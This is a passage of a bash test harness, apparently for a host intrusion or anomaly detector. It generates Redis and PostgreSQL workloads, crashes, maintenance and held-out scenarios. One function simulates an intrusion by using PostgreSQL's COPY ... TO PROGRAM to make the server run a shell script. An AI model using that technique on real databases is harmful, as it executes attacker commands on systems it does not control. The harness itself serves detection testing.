    3) big=$(head -c 20000 /dev/zero | tr '\0' v)
       { printf '*2\r\n$6\r\nSELECT\r\n$2\r\n14\r\n*3\r\n$3\r\nSET\r\n$9\r\nu:bulk:%02d\r\n$20000\r\n%s\r\n' $((HELDOUT17_ROUND % 100)) "$big"
         sleep 0.3; } | socat -t 1 - "TCP:127.0.0.1:$REDIS_PORT,bind=$a" >/dev/null ;;
    4) mapfile -t cmds < <(for i in $(seq 1 200); do echo PING; done)
       redis_from "$a" "${cmds[@]}" ;;
    5) redis_from "$a" "SELECT 14" "XADD u:stream NOMKSTREAM MAXLEN ~ 100 * r $HELDOUT17_ROUND" \
         "XADD u:stream MAXLEN ~ 100 * r $HELDOUT17_ROUND" "XLEN u:stream" ;;
  esac >/dev/null 2>&1 || true
  # (With a time limit: a redis-benchmark started while the server is down waits for ever.)
  timeout 10 redis-benchmark -p "$REDIS_PORT" -q -n $((30 * HELDOUT17_CONC)) -c "$HELDOUT17_CONC" -r 500 -t incr,get \
    >/dev/null 2>&1 || true
}
redis_heldout17_early() { admin redis redis /usr/bin/redis-cli -p "$REDIS_PORT" --memkeys; }
redis_heldout17_change() {
  redis_stop
  mkdir -p "$REDIS_DIR/conf.d"
  printf '%s\n' 'io-threads 2' 'hz 20' 'lazyfree-lazy-eviction yes' >"$REDIS_DIR/conf.d/threads.conf"
  chmod 644 "$REDIS_DIR/conf.d/threads.conf"
  echo "include $REDIS_DIR/conf.d/threads.conf" >>"$REDIS_DIR/redis.conf"
  redis_start
}
redis_heldout17_late() {
  admin redis redis /usr/bin/redis-cli -p "$REDIS_PORT" config resetstat
  admin redis redis /usr/bin/redis-cli -p "$REDIS_PORT" memory purge
}

# --- postgresql ---------------------------------------------------------------------------

PG_DIR=$WORK/postgresql
PG_DATA=$PG_DIR/data

postgresql_provision() {
  rm -rf "$PG_DIR"
  mkdir -p "$PG_DATA" "$PG_DIR/run" "$PG_DIR/log"
  chown -R postgres:postgres "$PG_DIR"
  (cd / && setpriv --reuid=postgres --regid=postgres --init-groups \
    "$PG_BIN/initdb" -D "$PG_DATA" -U postgres --auth=trust >/dev/null)
  cat >>"$PG_DATA/postgresql.conf" <<CONF
listen_addresses = '127.0.0.1'
port = $PG_PORT
unix_socket_directories = '$PG_DIR/run'
max_connections = 30
shared_buffers = 32MB
work_mem = 1MB
CONF
  cat >"$PG_DIR/aggregate.sql" <<'SQL'
\set lo random(1, 90000)
SELECT count(*), sum(abalance) FROM pgbench_accounts WHERE aid BETWEEN :lo AND :lo + 5000;
SQL
  # A database that has been in use: the pgbench tables exist and are analysed.
  postgresql_launch
  local pid=$LAUNCHED
  pgbench -h 127.0.0.1 -p "$PG_PORT" -U postgres -i -s 1 -q postgres >/dev/null 2>&1
  psql -h 127.0.0.1 -p "$PG_PORT" -U postgres -q -c "VACUUM ANALYZE" postgres
  stop_pid "$pid" INT
}

PG_PID=
postgresql_launch() {
  launch postgresql postgres "$PG_BIN/postgres" -D "$PG_DATA"
  until_ok "$PG_BIN/pg_isready" -q -h 127.0.0.1 -p "$PG_PORT"
}
postgresql_start() {
  postgresql_launch
  PG_PID=$LAUNCHED
}
postgresql_stop() { stop_pid "$PG_PID" INT; }

PSQL=(psql -h 127.0.0.1 -p "$PG_PORT" -U postgres -q -X -o /dev/null postgres)
PGBENCH=(pgbench -h 127.0.0.1 -p "$PG_PORT" -U postgres -n postgres)

# A report whose full sort spills to temporary files (work_mem is 1 MB).
postgresql_report() {
  "${PSQL[@]}" -c "SELECT aid, abalance FROM pgbench_accounts ORDER BY abalance DESC, filler OFFSET 99990"
}
# Mix A: TPC-B-like transactions on two clients, read-only on four, one report.
postgresql_mix_a() {
  "${PGBENCH[@]}" -c 2 -T 2 >/dev/null 2>&1
  "${PGBENCH[@]}" -S -c 4 -T 1 >/dev/null 2>&1
  postgresql_report
}
# Mix B: simple updates on six clients, an aggregate script on three, read-only on eight,
# catalog queries, and the report.
postgresql_mix_b() {
  "${PGBENCH[@]}" -N -c 6 -T 1 >/dev/null 2>&1
  "${PGBENCH[@]}" -c 3 -T 1 -f "$PG_DIR/aggregate.sql" >/dev/null 2>&1
  "${PGBENCH[@]}" -S -c 8 -T 1 >/dev/null 2>&1
  "${PSQL[@]}" -c "SELECT relname, n_live_tup FROM pg_stat_user_tables" -c '\dt'
  postgresql_report
}

# A superuser session (SQL injection, stolen credentials) runs the intruder's script through
# the server: postgres itself forks /bin/sh -c in the data directory.
postgresql_inject() {
  "${PSQL[@]}" -c "COPY (SELECT 1) TO PROGRAM \$drift\$$(intruder_script "$PG_DATA")\$drift\$"
}
postgresql_labels() { write_labels postgresql "$PG_DATA"; }

# Held out. A new application database (CREATE DATABASE, its pgbench tables and a table of
# its own with an index) and a new table in the known one; clients through relays (outside
# the cgroup) bound to 127.0.0.5, .9 and .17, as application servers on other addresses
# would connect (pg_hba.conf gets a line for them, reloaded); more clients; the scheduled
# jobs with other arguments: a pg_dump backup, VACUUM ANALYZE of one table, CHECKPOINT.
PSQL_APP=(psql -h 127.0.0.1 -p "$PG_PORT" -U postgres -q -X -o /dev/null app2)
postgresql_heldout_deploy() {
  start_relays "$PG_PORT" "$PG_RELAY_PORT" 127.0.0 5 9 17
  # The application servers' addresses are let in (initdb's pg_hba.conf trusts 127.0.0.1/32).
  echo "host all all 127.0.0.0/8 trust" >>"$PG_DATA/pg_hba.conf"
  "${PSQL[@]}" -c "SELECT pg_reload_conf()"
  "${PSQL[@]}" -c "CREATE DATABASE app2"
  pgbench -h 127.0.0.1 -p "$PG_PORT" -U postgres -i -s 1 -q app2 >/dev/null 2>&1
  "${PSQL_APP[@]}" -c "CREATE TABLE orders (id serial PRIMARY KEY, customer int, total numeric, created timestamptz DEFAULT now())" \
    -c "CREATE INDEX orders_customer ON orders (customer)" \
    -c "INSERT INTO orders (customer, total) SELECT g % 500, g * 1.5 FROM generate_series(1, 20000) g"
  "${PSQL[@]}" -c "CREATE TABLE audit_log (id bigserial PRIMARY KEY, at timestamptz DEFAULT now(), what text)"
}
postgresql_heldout_mix() {
  local a pids=()
  for a in 5 9 17; do
    pgbench -h 127.0.0.1 -p "$((PG_RELAY_PORT + a))" -U postgres -n -c 3 -T 1 app2 >/dev/null 2>&1 &
    pids+=($!)
  done
  wait "${pids[@]}"
  "${PGBENCH[@]}" -c 10 -T 1 >/dev/null 2>&1
  "${PSQL_APP[@]}" -c "INSERT INTO orders (customer, total) SELECT g % 500, g FROM generate_series(1, 500) g" \
    -c "SELECT customer, sum(total) FROM orders GROUP BY customer ORDER BY 2 DESC LIMIT 10"
  "${PSQL[@]}" -c "INSERT INTO audit_log (what) SELECT 'login ' || g FROM generate_series(1, 200) g"
}
postgresql_heldout_job() {
  pg_dump -h 127.0.0.1 -p "$PG_PORT" -U postgres -Fc app2 >/dev/null
  "${PSQL[@]}" -c "VACUUM ANALYZE pgbench_history" -c "CHECKPOINT"
}

# Held out, second set (heldout2). The release lets three more application servers in
# (pg_hba.conf lines for 127.0.0.33, .41 and .58, which connect through relays outside the
# cgroup) and a local client on the Unix socket. In the recording: a new tenant database
# every third round (tenant_1, tenant_2, ...: CREATE DATABASE from template0, its own
# tables and indexes); in postgres a table partitioned by month (2026_11 and 2026_12 first,
# then the next generation, 2027_01, attached and the oldest detached and dropped) and a
# materialized view refreshed; quiet rounds (one client, reports over the socket) and busy
# ones (select-only with a new connection per transaction on 16 clients through .33, inserts
# into December's partition through .41, TPC-B through .58); jobs with other arguments: a base
# backup (pg_basebackup, tar format, fast checkpoint) the first time, then a plain pg_dump of one table,
# VACUUM FULL, REINDEX and CLUSTER; an operator inside the cgroup (as postgres) looks at
# pg_stat_activity, pg_controldata and pg_isready, raises work_mem with ALTER SYSTEM and
# reloads with `pg_ctl reload`, and runs `vacuumdb --analyze-only`; the restart is a smart
# shutdown (TERM).
PG_HELDOUT2_ADDRS=(33 41 58)
PSQL_SOCK=(psql -h "$PG_DIR/run" -p "$PG_PORT" -U postgres -q -X -o /dev/null)
postgresql_heldout2_deploy() {
  local a
  start_relays "$PG_PORT" "$PG_RELAY_PORT" 127.0.0 "${PG_HELDOUT2_ADDRS[@]}"
  for a in "${PG_HELDOUT2_ADDRS[@]}"; do
    echo "host all all 127.0.0.$a/32 trust" >>"$PG_DATA/pg_hba.conf"
  done
  cat >"$PG_DIR/events.sql" <<'SQL'
\set d random(26, 55)
INSERT INTO events (at, kind, payload) VALUES (timestamptz '2026-11-05' + :d * interval '1 day', 'click', 'x');
SQL
}
PG_TENANTS=0
postgresql_heldout2_mix() {
  local r=$HELDOUT2_ROUND
  if [ "$r" = 1 ]; then
    "${PSQL_SOCK[@]}" postgres \
      -c "CREATE TABLE events (id bigserial, at timestamptz NOT NULL, kind text, payload text) PARTITION BY RANGE (at)" \
      -c "CREATE TABLE events_2026_11 PARTITION OF events FOR VALUES FROM ('2026-11-01') TO ('2026-12-01')" \
      -c "CREATE TABLE events_2026_12 PARTITION OF events FOR VALUES FROM ('2026-12-01') TO ('2027-01-01')" \
      -c "CREATE INDEX ON events (at)" \
      -c "CREATE MATERIALIZED VIEW branch_totals AS SELECT bid, sum(abalance) FROM pgbench_accounts GROUP BY bid"
  fi
  if [ $((r % 3)) = 1 ]; then
    PG_TENANTS=$((PG_TENANTS + 1))
    "${PSQL_SOCK[@]}" postgres -c "CREATE DATABASE tenant_$PG_TENANTS TEMPLATE template0"
    "${PSQL_SOCK[@]}" "tenant_$PG_TENANTS" \
      -c "CREATE TABLE customers (id int PRIMARY KEY, name text, email text UNIQUE)" \
      -c "CREATE TABLE invoices (id serial PRIMARY KEY, customer int REFERENCES customers, due date, amount numeric)" \
      -c "CREATE INDEX invoices_due ON invoices (due)" \
      -c "INSERT INTO customers SELECT g, 'c' || g, 'c' || g || '@example.org' FROM generate_series(1, 300) g" \
      -c "INSERT INTO invoices (customer, due, amount) SELECT 1 + g % 300, date '2026-12-01' + g % 60, g FROM generate_series(1, 3000) g"
  fi
  if [ "$r" = 5 ]; then
    "${PSQL_SOCK[@]}" postgres \
      -c "CREATE TABLE events_2027_01 (LIKE events INCLUDING ALL)" \
      -c "ALTER TABLE events ATTACH PARTITION events_2027_01 FOR VALUES FROM ('2027-01-01') TO ('2027-02-01')" \
      -c "ALTER TABLE events DETACH PARTITION events_2026_11" \
      -c "DROP TABLE events_2026_11"
  fi
  if [ $((r % 2)) = 1 ]; then
    "${PGBENCH[@]}" -S -c 1 -T 1 >/dev/null 2>&1
    "${PSQL_SOCK[@]}" postgres -c "SELECT kind, date_trunc('day', at), count(*) FROM events GROUP BY 1, 2"
    "${PSQL_SOCK[@]}" "tenant_$PG_TENANTS" -c "SELECT due, sum(amount) FROM invoices GROUP BY due ORDER BY due LIMIT 20"
  else
    local pids=()
    pgbench -h 127.0.0.1 -p "$((PG_RELAY_PORT + 33))" -U postgres -n -S -C -c 16 -T 1 postgres >/dev/null 2>&1 &
    pids+=($!)
    pgbench -h 127.0.0.1 -p "$((PG_RELAY_PORT + 41))" -U postgres -n -c 4 -T 1 -f "$PG_DIR/events.sql" postgres >/dev/null 2>&1 &
    pids+=($!)
    pgbench -h 127.0.0.1 -p "$((PG_RELAY_PORT + 58))" -U postgres -n -c 2 -T 1 postgres >/dev/null 2>&1 &
    pids+=($!)
    wait "${pids[@]}"
    "${PSQL_SOCK[@]}" postgres -c "REFRESH MATERIALIZED VIEW branch_totals"
  fi
}
PG_HELDOUT2_JOBS=0
postgresql_heldout2_job() {
  PG_HELDOUT2_JOBS=$((PG_HELDOUT2_JOBS + 1))
  if [ "$PG_HELDOUT2_JOBS" = 1 ]; then
    local dir
    dir=$(mktemp -d "$WORK/basebackup.XXXXXX")
    pg_basebackup -h 127.0.0.1 -p "$PG_PORT" -U postgres -D "$dir" -Ft -X fetch -c fast >/dev/null 2>&1 ||
      die "pg_basebackup failed"
    rm -rf "$dir"
  else
    pg_dump -h 127.0.0.1 -p "$PG_PORT" -U postgres -Fp -t pgbench_branches postgres >/dev/null
    "${PSQL_SOCK[@]}" postgres -c "VACUUM FULL pgbench_tellers" -c "REINDEX TABLE pgbench_branches" \
      -c "CLUSTER pgbench_branches USING pgbench_branches_pkey"
  fi
}
postgresql_heldout2_admin() {
  local sock=(-h "$PG_DIR/run" -p "$PG_PORT" -U postgres)
  admin postgresql postgres "$PG_BIN/psql" "${sock[@]}" -X -c "SELECT pid, usename, client_addr, state FROM pg_stat_activity" postgres
  admin postgresql postgres "$PG_BIN/pg_controldata" -D "$PG_DATA"
  admin postgresql postgres "$PG_BIN/pg_isready" "${sock[@]}"
  admin postgresql postgres "$PG_BIN/psql" "${sock[@]}" -X -c "ALTER SYSTEM SET work_mem = '4MB'" postgres
  admin postgresql postgres "$PG_BIN/pg_ctl" reload -D "$PG_DATA"
  admin postgresql postgres "$PG_BIN/vacuumdb" "${sock[@]}" --all --analyze-only --quiet
}
postgresql_heldout2_restart() {
  stop_pid "$PG_PID" TERM
  postgresql_start
}

# Held out, third set (heldout3). Each round: a report session that builds a temporary table
# and queries it; short-lived psql connections (one query each) looking up accounts; a
# custom read-write pgbench script on 5 clients (only after the crash: kept connections);
# and the errors applications and people make, one or two a round in turn: a syntax error,
# a misspelt table, a role that does not exist, a database that does not exist, a unique
# violation, a division by zero, a statement cancelled by statement_timeout, and a client
# killed while its query runs. The crash: a backend killed with SIGKILL (the OOM killer's
# way), so the postmaster resets every backend and recovers from its WAL. The reload: HUP
# from outside after postgresql.conf changes (log_connections, log_min_duration_statement,
# autovacuum_naptime, work_mem). The maintenance, by the operator inside the cgroup as
# postgres: ANALYZE, CREATE INDEX CONCURRENTLY, REINDEX INDEX CONCURRENTLY, and a pg_dump of
# one table into a backup directory postgres owns.
postgresql_heldout3_deploy() {
  mkdir -p "$PG_DIR/backup"
  chown postgres:postgres "$PG_DIR/backup"
  cat >"$PG_DIR/transfer.sql" <<'SQL'
\set a random(1, 100000)
\set b random(1, 100000)
\set d random(-500, 500)
BEGIN;
UPDATE pgbench_accounts SET abalance = abalance - :d WHERE aid = :a;
UPDATE pgbench_accounts SET abalance = abalance + :d WHERE aid = :b;
SELECT abalance FROM pgbench_accounts WHERE aid IN (:a, :b);
END;
SQL
}
postgresql_heldout3_mix() {
  local r=$HELDOUT3_ROUND i
  "${PSQL[@]}" -c "CREATE TEMP TABLE top_accounts AS SELECT aid, abalance FROM pgbench_accounts ORDER BY abalance DESC LIMIT 500" \
    -c "SELECT bid, count(*) FROM top_accounts JOIN pgbench_accounts USING (aid) GROUP BY bid"
  for i in $(seq 1 12); do
    "${PSQL[@]}" -c "SELECT abalance FROM pgbench_accounts WHERE aid = $(((r * 7919 + i * 104729) % 100000 + 1))"
  done
  [ "$HELDOUT3_KEEPALIVE" = 1 ] && "${PGBENCH[@]}" -c 5 -T 1 -f "$PG_DIR/transfer.sql" >/dev/null 2>&1
  case $((r % 8)) in
    0) "${PSQL[@]}" -c "SELEC count(*) FROM pgbench_branches" ;;
    1) "${PSQL[@]}" -c "SELECT * FROM pgbench_acounts LIMIT 1" ;;
    2) psql -h 127.0.0.1 -p "$PG_PORT" -U reporting -X -c "SELECT 1" postgres ;;
    3) psql -h 127.0.0.1 -p "$PG_PORT" -U postgres -X -c "SELECT 1" analytics ;;
    4) "${PSQL[@]}" -c "INSERT INTO pgbench_branches (bid, bbalance) VALUES (1, 0)" ;;
    5) "${PSQL[@]}" -c "SELECT sum(abalance) / (count(*) - count(*)) FROM pgbench_accounts" ;;
    6) "${PSQL[@]}" -c "SET statement_timeout = '200ms'" -c "SELECT pg_sleep(1)" ;;
    7) timeout -s KILL 0.3 "${PSQL[@]}" -c "SELECT pg_sleep(0.8)" ;;
  esac >/dev/null 2>&1 || true
}
postgresql_heldout3_crash() {
  "${PSQL[@]}" -c "SELECT pg_sleep(20)" >/dev/null 2>&1 &
  local client=$! backend=""
  PIDS+=("$client")
  for _ in $(seq 1 50); do
    backend=$(psql -h 127.0.0.1 -p "$PG_PORT" -U postgres -X -At -c \
      "SELECT pid FROM pg_stat_activity WHERE query = 'SELECT pg_sleep(20)' AND state = 'active'" postgres)
    [ -n "$backend" ] && break
    sleep 0.1
  done
  [ -n "$backend" ] || die "no backend to kill"
  kill -KILL "$backend"
  wait "$client" 2>/dev/null || true
  forget "$client"
  until_ok "$PG_BIN/pg_isready" -q -h 127.0.0.1 -p "$PG_PORT"
  until_ok "${PSQL[@]}" -c "SELECT 1"
}
postgresql_heldout3_reload() {
  cat >>"$PG_DATA/postgresql.conf" <<CONF
log_connections = on
log_min_duration_statement = 250
autovacuum_naptime = 15s
work_mem = 2MB
CONF
  kill -HUP "$PG_PID"
  until_ok heldout3_pg_reloaded
}
heldout3_pg_reloaded() {
  [ "$(psql -h 127.0.0.1 -p "$PG_PORT" -U postgres -X -At -c "SHOW work_mem" postgres)" = 2MB ]
}
postgresql_heldout3_maint() {
  local sock=(-h "$PG_DIR/run" -p "$PG_PORT" -U postgres)
  admin postgresql postgres "$PG_BIN/psql" "${sock[@]}" -X -q -c "ANALYZE pgbench_accounts" \
    -c "CREATE INDEX CONCURRENTLY IF NOT EXISTS accounts_abalance ON pgbench_accounts (abalance)" \
    -c "REINDEX INDEX CONCURRENTLY pgbench_tellers_pkey" postgres
  admin postgresql postgres "$PG_BIN/pg_dump" "${sock[@]}" -t pgbench_tellers \
    -f "$PG_DIR/backup/tellers-$(date +%Y%m%d).sql" postgres
}

# Held out, fourth set (heldout4). Deployed before the start (the server started once
# outside the recording, as provisioning does): an application role `app_rw` with a password
# (scram-sha-256) allowed from 127.0.2.0/24 in pg_hba.conf, two relays (outside the cgroup)
# bound to 127.0.2.150 and .177 for its application servers, a job queue table `jobs` and a
# `ledger` table. Each round, on as many clients as the load (up to 12): producers insert
# jobs and NOTIFY, workers claim them with SELECT ... FOR UPDATE SKIP LOCKED (pgbench with
# prepared statements, as app_rw through .150); select-only with the extended protocol
# through .177; an advisory lock taken and released over the Unix socket; every fourth round
# a COPY of rows into `ledger` from the client (psql \copy); every sixth a login with a
# wrong password. The change: a schema migration (CREATE EXTENSION pg_trgm, a new column,
# a trigram GIN index). The maintenance: pg_switch_wal(), VACUUM (FREEZE, ANALYZE) of the
# ledger, done jobs deleted, pg_stat_reset(), a dump of the roles (pg_dumpall --globals-only).
PG_HELDOUT4_ADDRS=(150 177)
PG_APP_PASS="app-rw-4"
postgresql_heldout4_deploy() {
  start_relays "$PG_PORT" "$PG_RELAY_PORT" 127.0.2 "${PG_HELDOUT4_ADDRS[@]}"
  echo "host all app_rw 127.0.2.0/24 scram-sha-256" >>"$PG_DATA/pg_hba.conf"
  cat >"$PG_DIR/jobs.sql" <<'SQL'
\set k random(1, 4)
INSERT INTO jobs (kind, payload) VALUES ('kind-' || :k, 'payload for client ' || :client_id);
SELECT pg_notify('jobs_ready', :k::text);
BEGIN;
UPDATE jobs SET state = 'done' WHERE id IN (SELECT id FROM jobs WHERE state = 'new' ORDER BY id FOR UPDATE SKIP LOCKED LIMIT 3);
END;
SQL
  postgresql_launch
  local pid=$LAUNCHED
  "${PSQL[@]}" -c "CREATE ROLE app_rw LOGIN PASSWORD '$PG_APP_PASS'" \
    -c "CREATE TABLE jobs (id bigserial PRIMARY KEY, kind text, payload text, state text DEFAULT 'new', created timestamptz DEFAULT now())" \
    -c "CREATE TABLE ledger (id bigserial PRIMARY KEY, account int, amount numeric, booked date)" \
    -c "GRANT ALL ON ALL TABLES IN SCHEMA public TO app_rw" -c "GRANT ALL ON ALL SEQUENCES IN SCHEMA public TO app_rw"
  stop_pid "$pid" INT
}
postgresql_heldout4_mix() {
  local r=$HELDOUT4_ROUND c=$HELDOUT4_CONC pids=()
  [ "$c" -le 12 ] || c=12
  PGPASSWORD=$PG_APP_PASS pgbench -h 127.0.0.1 -p "$((PG_RELAY_PORT + 150))" -U app_rw -n -M prepared -c "$c" -t 15 \
    -f "$PG_DIR/jobs.sql" postgres >/dev/null 2>&1 &
  pids+=($!)
  PGPASSWORD=$PG_APP_PASS pgbench -h 127.0.0.1 -p "$((PG_RELAY_PORT + 177))" -U app_rw -n -M extended -S -c "$c" -t 40 \
    postgres >/dev/null 2>&1 &
  pids+=($!)
  "${PSQL_SOCK[@]}" postgres -c "SELECT pg_advisory_lock(4242)" -c "SELECT count(*) FROM jobs WHERE state = 'new'" \
    -c "SELECT pg_advisory_unlock(4242)"
  wait "${pids[@]}" || true
  if [ $((r % 4)) = 0 ]; then
    awk -v r="$r" -v n=$((500 * c)) 'BEGIN { srand(r); for (i = 0; i < n; i++) printf "%d\t%.2f\t2026-12-%02d\n", int(rand() * 5000), rand() * 200 - 100, 1 + i % 3 }' |
      PGPASSWORD=$PG_APP_PASS psql -h 127.0.0.1 -p "$((PG_RELAY_PORT + 177))" -U app_rw -q -X \
        -c "\\copy ledger (account, amount, booked) FROM STDIN" postgres
  fi
  if [ $((r % 6)) = 5 ]; then
    PGPASSWORD=not-the-password psql -h 127.0.0.1 -p "$((PG_RELAY_PORT + 150))" -U app_rw -X -c "SELECT 1" postgres >/dev/null 2>&1 || true
  fi
}
postgresql_heldout4_change() {
  "${PSQL[@]}" -c "CREATE EXTENSION IF NOT EXISTS pg_trgm" -c "ALTER TABLE jobs ADD COLUMN priority int DEFAULT 0" \
    -c "CREATE INDEX jobs_payload_trgm ON jobs USING gin (payload gin_trgm_ops)"
}
postgresql_heldout4_maint() {
  "${PSQL[@]}" -c "SELECT pg_switch_wal()" -c "VACUUM (FREEZE, ANALYZE) ledger" -c "DELETE FROM jobs WHERE state = 'done'" \
    -c "SELECT pg_stat_reset()"
  pg_dumpall -h 127.0.0.1 -p "$PG_PORT" -U postgres --globals-only >/dev/null
}
postgresql_heldout4_end() { :; }

# Held out, fifth set (heldout5). Deployed before the start (the server started once
# outside the recording, as provisioning does): a pg_hba.conf line trusting 127.0.3.0/24,
# two relays (outside the cgroup) bound to 127.0.3.31 and .62 for its application servers,
# a backup directory postgres owns, and two tables: `daily_sales` (a year of rows) and
# `attachments` (bytea). Each round: TPC-B through .31 on as many clients as the load (up
# to 16), a fixed number of transactions per client; through .62 an EXPLAIN ANALYZE of a
# window function over daily_sales and a recursive CTE; one more thing in turn: a deadlock
# between two sessions that update two tables in opposite orders, a lock_timeout while
# another session holds a table lock, a 2 MB bytea row (TOASTed), a 300 kB large object
# from the client (\lo_import), a storm of 34 connections at once (max_connections is 30:
# "too many clients"), COPY of daily_sales to the client. The change: ALTER SYSTEM SET
# deadlock_timeout, log_lock_waits and idle_in_transaction_session_timeout, then
# pg_reload_conf(). The maintenance, by the operator inside the cgroup as postgres: a
# parallel directory-format dump (pg_dump -Fd -j 2) into backup/, pg_restore -l of it, and
# ANALYZE VERBOSE. The late event: ALTER SYSTEM RESET ALL and pg_reload_conf().
PG_HELDOUT5_ADDRS=(31 62)
postgresql_heldout5_deploy() {
  start_relays "$PG_PORT" "$PG_RELAY_PORT" 127.0.3 "${PG_HELDOUT5_ADDRS[@]}"
  echo "host all all 127.0.3.0/24 trust" >>"$PG_DATA/pg_hba.conf"
  mkdir -p "$PG_DIR/backup"
  chown postgres:postgres "$PG_DIR/backup"
  head -c 300000 /dev/urandom >"$WORK/pg-scan.pdf"
  postgresql_launch
  local pid=$LAUNCHED
  "${PSQL[@]}" -c "CREATE TABLE daily_sales (day date PRIMARY KEY, region int, total numeric)" \
    -c "INSERT INTO daily_sales SELECT d::date, extract(doy FROM d)::int % 5, round((random() * 1000)::numeric, 2) FROM generate_series(date '2026-01-01', date '2026-12-02', interval '1 day') d" \
    -c "CREATE TABLE attachments (id serial PRIMARY KEY, name text, body bytea)"
  stop_pid "$pid" INT
}
postgresql_heldout5_mix() {
  local r=$HELDOUT5_ROUND c=$HELDOUT5_CONC i pids=()
  local p5=(psql -h 127.0.0.1 -p $((PG_RELAY_PORT + 62)) -U postgres -q -X -o /dev/null postgres)
  [ "$c" -le 16 ] || c=16
  pgbench -h 127.0.0.1 -p $((PG_RELAY_PORT + 31)) -U postgres -n -c "$c" -t $((3 * HELDOUT5_PER)) postgres >/dev/null 2>&1 || true
  "${p5[@]}" -c "EXPLAIN ANALYZE SELECT day, total, avg(total) OVER (PARTITION BY region ORDER BY day ROWS 6 PRECEDING) FROM daily_sales" \
    -c "WITH RECURSIVE w(n, d) AS (SELECT 1, date '2026-11-01' UNION ALL SELECT n + 1, d + 7 FROM w WHERE n < 5) SELECT w.d, s.total FROM w JOIN daily_sales s ON s.day = w.d"
  case $((r % 6)) in
    0) "${p5[@]}" -c "BEGIN" -c "UPDATE pgbench_branches SET bbalance = bbalance + 1 WHERE bid = 1" -c "SELECT pg_sleep(0.3)" \
         -c "UPDATE pgbench_tellers SET tbalance = tbalance + 1 WHERE tid = 1" -c "COMMIT" &
       pids+=($!)
       "${p5[@]}" -c "BEGIN" -c "UPDATE pgbench_tellers SET tbalance = tbalance - 1 WHERE tid = 1" -c "SELECT pg_sleep(0.3)" \
         -c "UPDATE pgbench_branches SET bbalance = bbalance - 1 WHERE bid = 1" -c "COMMIT" &
       pids+=($!) ;;
    1) "${p5[@]}" -c "BEGIN" -c "LOCK TABLE daily_sales IN EXCLUSIVE MODE" -c "SELECT pg_sleep(0.8)" -c "COMMIT" &
       pids+=($!)
       sleep 0.2
       "${p5[@]}" -c "SET lock_timeout = '200ms'" -c "UPDATE daily_sales SET total = total + 1 WHERE day = date '2026-12-01'" ;;
    2) "${p5[@]}" -c "INSERT INTO attachments (name, body) VALUES ('scan-$r.pdf', decode(repeat('00ff', 1000000), 'hex'))" ;;
    3) "${p5[@]}" -c "\\lo_import $WORK/pg-scan.pdf" ;;
    4) for i in $(seq 1 34); do "${p5[@]}" -c "SELECT pg_sleep(0.5)" & pids+=($!); done ;;
    5) "${p5[@]}" -c "COPY daily_sales TO STDOUT (FORMAT csv, HEADER)" ;;
  esac >/dev/null 2>&1 || true
  for i in "${pids[@]}"; do wait "$i" 2>/dev/null || true; done
}
postgresql_heldout5_change() {
  "${PSQL[@]}" -c "ALTER SYSTEM SET deadlock_timeout = '300ms'" -c "ALTER SYSTEM SET log_lock_waits = on" \
    -c "ALTER SYSTEM SET idle_in_transaction_session_timeout = '5s'" -c "SELECT pg_reload_conf()"
}
postgresql_heldout5_maint() {
  local sock=(-h "$PG_DIR/run" -p "$PG_PORT" -U postgres) dump
  dump=$PG_DIR/backup/postgres-$(date +%Y%m%d-%H%M%S)
  admin postgresql postgres "$PG_BIN/pg_dump" "${sock[@]}" -Fd -j 2 -f "$dump" postgres
  admin postgresql postgres "$PG_BIN/pg_restore" -l "$dump"
  admin postgresql postgres "$PG_BIN/psql" "${sock[@]}" -X -q -c "ANALYZE VERBOSE daily_sales" postgres
}
postgresql_heldout5_late() { "${PSQL[@]}" -c "ALTER SYSTEM RESET ALL" -c "SELECT pg_reload_conf()"; }
postgresql_heldout5_probe() { pg_isready -q -h 127.0.0.1 -p $((PG_RELAY_PORT + 31)) || true; }

# Held out, sixth set (heldout6). Deployed before the start (the server started once
# outside the recording, as provisioning does): a pg_hba.conf line trusting 127.0.4.0/24,
# two relays (outside the cgroup) bound to 127.0.4.44 and .88 for its application servers,
# a backup directory postgres owns, and a `tickets` table (20000 rows, a status and a
# text body). Each round: read-only pgbench through .44 on as many clients as the load (up
# to 20), a few transactions per client; through .88 a help-desk session: a ticket opened,
# another one closed, a search with ILIKE, a prepared statement executed twice; one more
# thing in turn: a syntax error, a duplicate key, a statement cancelled by
# statement_timeout, a connection to a database that does not exist, a 1 MB ticket body
# sent with COPY FROM STDIN. The change: postgresql.conf edited (log_connections,
# log_min_duration_statement, max_parallel_workers_per_gather) and `pg_ctl reload` by the
# operator inside the cgroup. The maintenance, by the operator inside the cgroup as
# postgres: `vacuumdb --analyze` of tickets, CLUSTER of tickets on its primary key, and
# `pg_dumpall --globals-only` into backup/. The late event: the DBA ends a session that
# holds a row lock in an open transaction (`pg_terminate_backend`).
PG_HELDOUT6_ADDRS=(44 88)
postgresql_heldout6_deploy() {
  start_relays "$PG_PORT" "$PG_RELAY_PORT" 127.0.4 "${PG_HELDOUT6_ADDRS[@]}"
  echo "host all all 127.0.4.0/24 trust" >>"$PG_DATA/pg_hba.conf"
  mkdir -p "$PG_DIR/backup"
  chown postgres:postgres "$PG_DIR/backup"
  postgresql_launch
  local pid=$LAUNCHED
  "${PSQL[@]}" -c "CREATE TABLE tickets (id serial PRIMARY KEY, status text NOT NULL, opened timestamptz DEFAULT now(), body text)" \
    -c "INSERT INTO tickets (status, body) SELECT (ARRAY['open', 'pending', 'closed'])[1 + g % 3], 'printer on floor ' || g % 40 || ' is jammed' FROM generate_series(1, 20000) g"
  stop_pid "$pid" INT
}
postgresql_heldout6_mix() {
  local r=$HELDOUT6_ROUND c=$HELDOUT6_CONC
  local pg88=(psql -h 127.0.0.1 -p $((PG_RELAY_PORT + 88)) -U postgres -q -X -o /dev/null postgres)
  [ "$c" -le 20 ] || c=20
  pgbench -h 127.0.0.1 -p $((PG_RELAY_PORT + 44)) -U postgres -n -S -c "$c" -t $((2 * HELDOUT6_PER)) postgres >/dev/null 2>&1 || true
  "${pg88[@]}" -c "INSERT INTO tickets (status, body) VALUES ('open', 'vpn drops every $r minutes')" \
    -c "UPDATE tickets SET status = 'closed' WHERE id = $((1 + r * 37 % 20000))" \
    -c "SELECT id, status FROM tickets WHERE body ILIKE '%floor $((r % 40)) %' ORDER BY id DESC LIMIT 20" \
    -c "PREPARE by_status (text) AS SELECT count(*) FROM tickets WHERE status = \$1" \
    -c "EXECUTE by_status('open')" -c "EXECUTE by_status('pending')" || true
  case $((r % 5)) in
    0) "${pg88[@]}" -c "SELEC count(*) FROM tickets" ;;
    1) "${pg88[@]}" -c "INSERT INTO tickets (id, status) VALUES (1, 'open')" ;;
